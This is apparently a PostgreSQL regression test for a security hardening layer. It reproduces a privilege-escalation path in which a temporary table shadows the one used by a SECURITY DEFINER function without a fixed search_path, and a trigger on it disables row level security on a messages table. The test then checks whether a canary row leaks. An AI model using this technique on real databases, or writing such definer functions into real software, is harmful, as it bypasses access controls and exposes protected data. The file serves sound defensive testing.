-- vector: pg_temp table shadows a table used by the definer function; trigger on it runs attacker code as the owner, who then disables RLS
-- class: shadow
-- actor: honest bug
-- precondition: SECURITY DEFINER helper without SET search_path (owner = table owner); TEMP privilege
-- expected with sessmem: BLOCKED
-- stopped by: event trigger: row security off
-- severity: critical
\i :adapter
\ir _sane.sql
\set got ''
\c - :su
set role :owner;
create table public.usage_log(at timestamptz default now(), who text);
create function public.touch() returns void language plpgsql security definer as $$ begin insert into usage_log(who) values (session_user); end $$;
reset role;
\c - :app
begin;
select t_bind('sess-A');
create temp table usage_log(at timestamptz, who text) on commit drop;
create function pg_temp.own() returns trigger language plpgsql as $$ begin execute 'alter table public.messages no force row level security'; execute 'alter table public.messages disable row level security'; return new; end $$;
create trigger t before insert on pg_temp.usage_log for each row execute function pg_temp.own();
grant all on pg_temp.usage_log to public;
select public.touch();
commit;
begin; select t_bind('sess-A');
select coalesce(string_agg(content,'|'),'') as got from public.messages \gset
rollback;
\c - :su
select (:'got' like '%CANARY-B%') as leak \gset
\ir _verdict.sql
